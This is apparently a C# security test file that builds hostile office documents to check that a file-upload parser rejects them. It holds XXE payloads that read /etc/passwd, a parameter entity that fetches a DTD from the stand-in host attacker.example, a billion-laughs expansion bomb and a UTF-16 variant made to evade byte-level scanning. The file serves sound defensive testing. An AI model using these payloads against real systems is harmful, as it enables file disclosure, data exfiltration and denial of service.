using System.Text;

namespace Ballast.Tests.Security.HostileFiles;

public static partial class HostileCorpus
{
    private const string ExternalEntity = """<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>""";
    private const string ParameterEntity = """<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>""";

    /// <summary>Ten entities each ten times the one before: a billion "lol"s from a few hundred bytes.</summary>
    private static readonly string Laughs = "<!DOCTYPE x [<!ENTITY lol0 \"lol\">" + string.Concat(Enumerable.Range(1, 9).Select(i =>
        $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">")) + "]>";

    private static string WithDtd(string xml, string dtd, string? use = null)
    {
        var withDtd = xml.Replace(OfficeParts.Decl, OfficeParts.Decl + dtd, StringComparison.Ordinal);
        return use is null ? withDtd : withDtd.Replace("项目名称", use, StringComparison.Ordinal);
    }

    private static IEnumerable<HostileFile> Xml()
    {
        const string Dtd = "含有 DTD 声明";
        foreach (var part in new[] { "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml", "_rels/.rels",
                     "xl/_rels/workbook.xml.rels" })
        {
            var name = "xxe-" + part.Replace('/', '-').Replace("[", "", StringComparison.Ordinal).Replace("]", "", StringComparison.Ordinal);
            yield return Xlsx(name, OfficeParts.With(OfficeParts.Xlsx(), part, x => WithDtd(x, ExternalEntity, "&xxe;")), Dtd);
        }
        yield return Xlsx("xxe-parameter-entity", OfficeParts.With(OfficeParts.Xlsx(), "xl/sharedStrings.xml", x => WithDtd(x, ParameterEntity)), Dtd);
        yield return Xlsx("billion-laughs", OfficeParts.With(OfficeParts.Xlsx(), "xl/sharedStrings.xml", x => WithDtd(x, Laughs, "&lol9;")), Dtd);
        yield return Xlsx("xxe-utf16", Utf16Xxe(), Dtd);
        var props = OfficeParts.Xlsx();
        props["docProps/core.xml"] = OfficeParts.Decl + ExternalEntity + "<cp:coreProperties xmlns:cp=\"urn:x\">&xxe;</cp:coreProperties>";
        yield return Xlsx("xxe-unused-part", OfficeParts.Zip(props), Dtd);
        yield return Xlsx("xml-malformed", OfficeParts.With(OfficeParts.Xlsx(), "xl/worksheets/sheet1.xml", x => x[..(x.Length / 2)]), "不是有效的 XML");
        yield return Other("xxe-docx", ".docx", GoodFiles.DocxType,
            OfficeParts.With(OfficeParts.Docx(), "word/document.xml", x => WithDtd(x, ExternalEntity).Replace("台账说明", "&xxe;", StringComparison.Ordinal)),
            Dtd);
        yield return Other("xxe-ofd", ".ofd", "application/ofd", OfficeParts.With(OfficeParts.Ofd(), "OFD.xml", x => WithDtd(x, ExternalEntity)), Dtd);
    }

    /// <summary>The DTD in UTF-16: no byte-level search for "&lt;!DOCTYPE" would see it; the XML reader does.</summary>
    private static byte[] Utf16Xxe()
    {
        var parts = OfficeParts.Xlsx();
        var xml = WithDtd(parts["xl/sharedStrings.xml"], ExternalEntity, "&xxe;").Replace("UTF-8", "UTF-16", StringComparison.Ordinal);
        parts.Remove("xl/sharedStrings.xml");
        return OfficeParts.Zip(parts, new RawZip.Entry("xl/sharedStrings.xml", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml)]));
    }
}
